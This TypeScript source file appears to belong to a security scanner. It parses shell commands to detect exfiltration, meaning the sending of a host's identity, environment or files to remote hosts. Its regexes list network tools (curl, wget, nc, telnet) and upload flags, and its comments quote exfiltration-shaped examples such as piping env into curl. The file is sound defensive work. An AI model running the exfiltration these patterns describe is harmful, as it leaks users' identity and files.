import { type Destination, destinationOf, urlsIn } from "../hosts.ts";
import type { ShellCommand } from "./commands.ts";

/** Programs whose output tells who and where one is. */
const identityPrograms =
	/^(?:whoami|hostname|id|uname|ifconfig|ipconfig|env|printenv|pwd|who|w|systeminfo|getmac|ip|set|lscpu|ver|ls|dir|ps|netstat|arp|cat|type|find|tar|base64)$/;

const senders =
	/^(?:curl|wget|nc|ncat|netcat|nslookup|dig|host|ping|http|invoke-webrequest|iwr|invoke-restmethod|irm|ftp|scp|telnet|drill)$/;
const lookups = /^(?:nslookup|dig|host|ping|drill)$/;

function isSender(command: ShellCommand): boolean {
	return senders.test(command.program);
}

/** Where a sending command sends to: the URL, or the first word that looks like a host. */
export function targetOf(command: ShellCommand): string | undefined {
	if (!isSender(command)) return undefined;
	const url = urlsIn(command.words.join(" "))[0];
	if (url !== undefined) return url;
	return command.words
		.slice(1)
		.find((word) => !word.startsWith("-") && !word.startsWith("@") && /[\w)`}]\.[a-z\d]/i.test(word));
}

/** The kind of place that a command of a shell text talks to. */
export function destinationOfCommand(command: ShellCommand): { target: string; destination: Destination } | undefined {
	const target = targetOf(command);
	if (target === undefined) return undefined;
	// Substitutions stand where data goes; the rest of the name tells the place.
	return { target, destination: destinationOf(target.replace(/\$\([^)]*\)|`[^`]*`|\$\{?\w+\}?/g, "x")) };
}

const variables =
	/\$(?:USER|HOSTNAME|HOME|PWD|LOGNAME)\b|\$\{(?:USER|HOSTNAME|HOME|PWD)\}|%(?:USERNAME|COMPUTERNAME|USERPROFILE|USERDOMAIN)%|\$env:(?:USERNAME|COMPUTERNAME)/i;
/** `-d @file`, `-F name=@file`, `-T file`: files that are uploaded. */
const upload =
	/\s(?:(?:-d|--data(?:-binary|-raw|-urlencode)?)[= ]?@|(?:-F|--form)[= ]?["']?[\w-]+=["']?@|(?:-T|--upload-file|--post-file)[= ]?)([^\s"'-][^\s"']*)/;

/** Shell text that sends the host's identity or files away: `curl http://x/$(whoami)`, `env | curl -d @- …`. */
export function shellSendsTaken(commands: readonly ShellCommand[]): { what: string; to: string } | undefined {
	for (const command of commands) {
		const line = command.words.join(" ");
		const into = command.substitutedInto === undefined ? undefined : commands[command.substitutedInto];
		if (into && isSender(into) && (identityPrograms.test(command.program) || lookups.test(into.program)))
			return { what: line, to: targetOf(into) ?? into.program };
		if (identityPrograms.test(command.program)) {
			let next = command.pipedTo;
			for (let hop = 0; hop < 6 && next !== undefined; hop++) {
				const reader = commands[next];
				if (!reader) break;
				if (isSender(reader)) return { what: line, to: targetOf(reader) ?? reader.program };
				const outer = reader.substitutedInto === undefined ? undefined : commands[reader.substitutedInto];
				if (outer && isSender(outer)) return { what: line, to: targetOf(outer) ?? outer.program };
				next = reader.pipedTo;
			}
		}
		if (!isSender(command)) continue;
		const to = targetOf(command);
		if (to === undefined) continue;
		const variable = variables.exec(line)?.[0];
		if (variable !== undefined && (to.includes(variable) || /\s(?:-d|--data\S*|-F)[\s=]/.test(line)))
			return { what: variable, to };
		const file = upload.exec(line)?.[1];
		if (file !== undefined && file !== "-") return { what: file, to };
	}
	return undefined;
}
